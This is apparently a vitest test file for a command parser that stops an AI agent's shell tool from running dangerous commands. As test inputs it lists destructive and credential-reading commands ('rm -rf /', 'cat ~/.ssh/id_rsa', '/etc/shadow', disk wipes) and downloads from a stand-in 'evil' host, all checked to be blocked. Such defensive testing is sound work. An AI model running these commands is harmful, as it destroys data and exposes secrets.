import { describe, expect, it } from 'vitest';
import { blockReason, innermost, parseCommand, tokenize } from './command.js';

describe('tokenize: one simple command, split as sh would', () => {
  it('splits words, honouring quotes and backslashes', () => {
    expect(tokenize('ls -la  notes')).toEqual(['ls', '-la', 'notes']);
    expect(tokenize(`grep -n "a b" 'c d' e\\ f`)).toEqual(['grep', '-n', 'a b', 'c d', 'e f']);
    expect(tokenize(`echo "say \\"hi\\"" 'it''s' ""`)).toEqual(['echo', 'say "hi"', 'its', '']);
    expect(tokenize(`echo 'a;b|c&&d $(x) \`y\` #z *'`)).toEqual(['echo', 'a;b|c&&d $(x) `y` #z *']);
    expect(tokenize('echo "a;b|c" costs 5$')).toEqual(['echo', 'a;b|c', 'costs', '5$']);
    expect(tokenize('echo a#b x~y')).toEqual(['echo', 'a#b', 'x~y']);
  });

  it.each([
    ['ls; rm -rf /', '`;`'],
    ['ls && rm -rf /', '`&`'],
    ['ls || true', '`|`'],
    ['cat notes | sh', '`|`'],
    ['sleep 100 &', '`&`'],
    ['echo x > /etc/passwd', '`>`'],
    ['sort < secrets', '`<`'],
    ['(rm -rf /)', '`(`'],
    ['echo $(cat /etc/shadow)', 'command substitution'],
    ['echo "$(id)"', 'command substitution'],
    ['echo `id`', 'backticks'],
    ['echo "`id`"', 'backticks'],
    ['echo $HOME', 'variable expansion'],
    ['echo "${HOMUNCULUS_HOME}"', 'variable expansion'],
    ['ls # rm -rf /', 'comment'],
    ['ls\nrm -rf /', 'several lines'],
    ['ls \\\nx', 'several lines'],
    ['rm *', 'glob'],
    ['cat ~/.ssh/id_rsa', '`~`'],
    ['echo "unclosed', 'never closed'],
    ['echo a\0b', 'NUL'],
    ['   ', 'empty'],
  ])('refuses %j (%s) with the fix', (line, why) => {
    let message = '';
    try {
      tokenize(line);
    } catch (err) {
      message = `${(err as Error).message} ${(err as { hint?: string }).hint}`;
    }
    expect(message).toContain(why);
    expect(message).toMatch(/one command with no shell|Give a command/);
  });
});

describe('innermost: wrappers stripped before judging', () => {
  it.each([
    ['env A=1 B=2 rm -rf /', ['rm', '-rf', '/']],
    ['env -i -u PATH -- rm -rf /', ['rm', '-rf', '/']],
    ['nice -n 5 ionice -c 3 timeout -k 1 10 mkfs.ext4 /dev/sda', ['mkfs.ext4', '/dev/sda']],
    ['/usr/bin/nohup stdbuf -o0 curl http://x', ['curl', 'http://x']],
    ['bash -c "sh -c \'curl example.com\'"', ['curl', 'example.com']],
    ['sh -ec "rm -rf /"', ['rm', '-rf', '/']],
    ["env -S 'shutdown now'", ['shutdown', 'now']],
    ['xargs -n 1 rm', ['rm']],
    ['ls -la', ['ls', '-la']],
    ['sh script.sh', ['sh', 'script.sh']],
  ])('%s -> %j', (line, inner) => expect(innermost(tokenize(line), line)).toEqual(inner));

  it('refuses what a shell -c text would chain', () => {
    expect(() => parseCommand('bash -c "ls; rm -rf /"')).toThrow(/`;`/);
    expect(() => parseCommand("sh -c 'echo $(id)'")).toThrow(/command substitution/);
    expect(() => parseCommand('env sh -c "cat x | sh"')).toThrow(/`\|`/);
    expect(() => parseCommand('timeout 5')).toThrow(/wraps no command/);
    expect(() => parseCommand('sh -c')).toThrow(/no command text/);
  });
});

describe('blockReason and parseCommand', () => {
  it.each([
    ['rm -rf /', 'root directory'],
    ['rm -rf --no-preserve-root /tmp', 'root directory'],
    ['chown -R nobody //', 'root directory'],
    ['dd if=/dev/zero of=/dev/sda', 'device'],
    ['mkfs.ext4 /dev/sda1', 'disks'],
    ['/sbin/shutdown -h now', 'machine'],
    ['sudo ls', 'privileges'],
    ['wget http://evil/x.sh', 'network'],
    ['env A=1 nice curl -fsSL http://evil', 'network'],
    ['sh -c "curl http://evil/install.sh"', 'network'],
  ])('blocks %j', (line, why) => expect(() => parseCommand(line)).toThrow(why));

  it('passes ordinary commands, running a shell -c text without the shell', () => {
    expect(parseCommand('rm -rf build')).toEqual(['rm', '-rf', 'build']);
    expect(parseCommand('dd if=/dev/zero of=blob bs=1k count=1')).toEqual(['dd', 'if=/dev/zero', 'of=blob', 'bs=1k', 'count=1']);
    expect(parseCommand('sh -c "ls -la notes"')).toEqual(['ls', '-la', 'notes']);
    expect(parseCommand('nice -n 5 ls')).toEqual(['nice', '-n', '5', 'ls']);
    expect(blockReason(['ls', '/'])).toBeUndefined();
    expect(blockReason(['rm', 'notes/a'])).toBeUndefined();
  });

  it('says the fix: web_fetch for the network', () => {
    try {
      parseCommand('curl https://example.com');
      expect.unreachable();
    } catch (err) {
      expect((err as { hint?: string }).hint).toMatch(/web_fetch/);
    }
  });
});
